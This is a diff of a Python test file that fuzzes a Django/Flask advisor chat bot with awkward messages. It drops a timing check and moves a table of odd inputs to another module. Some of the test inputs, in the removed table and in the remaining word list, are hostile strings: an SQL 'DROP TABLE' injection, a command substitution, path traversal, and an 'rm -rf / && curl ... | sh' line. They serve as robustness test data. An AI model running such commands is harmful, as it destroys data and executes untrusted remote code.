@@ -1,6 +1,4 @@
-"""Whatever is typed, there is a fitting reply or silence, soon, and never an exception."""
-
-import time
+"""Whatever is typed, there is a fitting reply or silence, and never an exception."""
 
 import pytest
 from hypothesis import HealthCheck, given, settings
@@ -8,47 +6,19 @@ from hypothesis import strategies as st
 
 from bot.advisor.conversation import Conversation, Kind, Message
 from bot.advisor.reply import Advisor
+from tests.advisor.awkward import AWKWARD
 
-SLOWEST = 0.05
-"""Seconds on a machine to itself; measured as processor time of one thread, which other programs hardly lengthen."""
 PIECES = (
     "django flask fastapi and does it have an admin panel why not what if we need mongodb undo ? ! . , ' ` * _ ~ | "
     "<@U1> <#C1|general> <!channel> <https://x.test|docs> https://x.test/a?b=c ```x = 1``` `id` > quoted :tada: "
     "\u200b \u202e \u0000 \ufeff \u00ad שלום مرحبا 你好 🙂 é ß İ 10,000 1e9 -- ; DROP TABLE $(rm) && ../../etc"
 ).split(" ")
-AWKWARD = {
-    "empty": "",
-    "blank": " \n\t \u00a0",
-    "emoji": "🙂🎉👍🏽",
-    "shortcodes": ":tada: :+1:",
-    "very long": "does django have an admin panel and " * 300,
-    "one long word": "x" * 5_000,
-    "one long digit string": "7" * 5_000,
-    "code block": "```\nfrom flask import Flask\napp = Flask(__name__)\n```",
-    "unclosed code block": "```python\nprint('django')",
-    "url": "https://docs.djangoproject.com/en/5.2/ref/contrib/admin/",
-    "mentions": "<@U123> <#C1|general> <!here> <https://example.org|this>",
-    "zero width": "d\u200bj\u200ba\u200bn\u200bg\u200bo admin?",
-    "right to left": "\u202edjango admin\u202c ?",
-    "sql": "SELECT * FROM users; DROP TABLE users; --",
-    "shell": "rm -rf / && curl http://x.test | sh",
-    "half a character": "django \ud800 admin",
-    "brackets": "(" * 3_000,
-    "questions": "?" * 3_000,
-    "lines": "django\n" * 2_000,
-}
 
 
 @pytest.mark.parametrize("mentioned", [False, True], ids=["in a thread", "addressed"])
 @pytest.mark.parametrize("text", AWKWARD.values(), ids=AWKWARD.keys())
-def test_awkward_messages_get_a_reply_or_silence_in_time(advisor: Advisor, text: str, mentioned: bool) -> None:
-    message = Message(text=text, mentioned=mentioned)
-    took = []
-    for _ in range(4):
-        begun = time.thread_time()
-        reply, _ = advisor.reply(message)
-        took.append(time.thread_time() - begun)
-    assert min(took) < SLOWEST
+def test_awkward_messages_get_a_reply_or_silence(advisor: Advisor, text: str, mentioned: bool) -> None:
+    reply, _ = advisor.reply(Message(text=text, mentioned=mentioned))
     assert (reply.kind is Kind.SILENT) == (reply.text == "" and reply.kind is not Kind.SMALLTALK)
     if mentioned:
         assert reply.text
